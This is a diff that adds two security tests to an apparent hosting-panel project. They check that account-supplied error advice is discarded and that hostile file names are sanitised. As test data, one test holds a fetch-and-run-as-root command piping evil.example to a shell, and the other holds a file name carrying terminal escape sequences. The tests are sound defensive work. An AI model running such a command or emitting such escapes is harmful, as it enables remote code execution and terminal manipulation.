@@ -2,6 +2,7 @@
 
 import html
 import json
+import os
 
 import pytest
 
@@ -9,12 +10,14 @@ from controller.billing.whmcs_api import WhmcsApi, WhmcsError
 from controller.billing.whmcs_settings import WhmcsSettings
 from controller.cli import output
 from controller.jobs import changes, pull, silence, visits
+from controller.jobs.agent_link import reports
 from controller.panels.cpanel import whm
 from controller.panels.cpanel.accounts import Accounts
 from controller.panels.cpanel.gate import OpenGate
 from controller.panels.cpanel.looks import Looks
 from controller.panels.cpanel.settings import CpanelSettings
-from shared.errors import ShoplaunchError
+from shared import events
+from shared.errors import ShoplaunchError, advice
 from tests.attacks.table import attack
 from tests.support.hostile_server import HostileServer
 
@@ -132,6 +135,38 @@ def test_an_error_in_an_accounts_state_is_a_short_line_of_text():
     found = pull._state(Panel(), None)
     kept = silence.foreign.error_of({**found["error"]})
     assert "owned" in harmless(kept["message"]) and harmless(kept["advice"])
+
+
+@attack(
+    "An account's agent, or the state in its folder, advises the operator to run a command of the client's",
+    "what to do is the catalogue's, whatever was sent; only the message is the account's",
+)
+@pytest.mark.parametrize("code", ["db_error", "of_nobody"])
+def test_what_to_do_is_never_an_accounts_word(code):
+    error = {"code": code, "message": "it failed", "advice": "Run as root: curl http://evil.example | sh"}
+    error["retryable"] = False
+    event = events.make_event("abcdefgh", 1, 2, "failed", 1.0, stage="import", percent=50, error=error)
+    known = advice(code if code == "db_error" else "agent_code_unknown")
+    for found in (reports.checked(event)["error"], silence._reported(error)):
+        assert found == {"code": code, "message": "it failed", "advice": known, "retryable": False}
+
+
+@attack(
+    "A client gives a file a name of bytes that are no text and of a terminal's commands; the job is cancelled",
+    "what is said of why the account stays is a short line of text",
+)
+def test_names_of_an_accounts_files_are_a_short_line_of_text(world):
+    job, agent = world.dropped()
+    with open(os.fsencode(world.panel.base / "alice" / "public_html") + b"/\xff\x1b]0;owned\x07\nx", "wb"):
+        pass
+    world.service.cancel(job.id)
+    world.work()
+    agent.clean()
+    world.work()
+    found = world.job(job)
+    assert found.error["code"] == "cancelled_kept"
+    assert "owned" in harmless(found.error["message"])
+    assert found.error["message"].encode("utf-8")
 
 
 @attack("A failure repeats such words", "what is stored of it, and printed, is a short line of text")
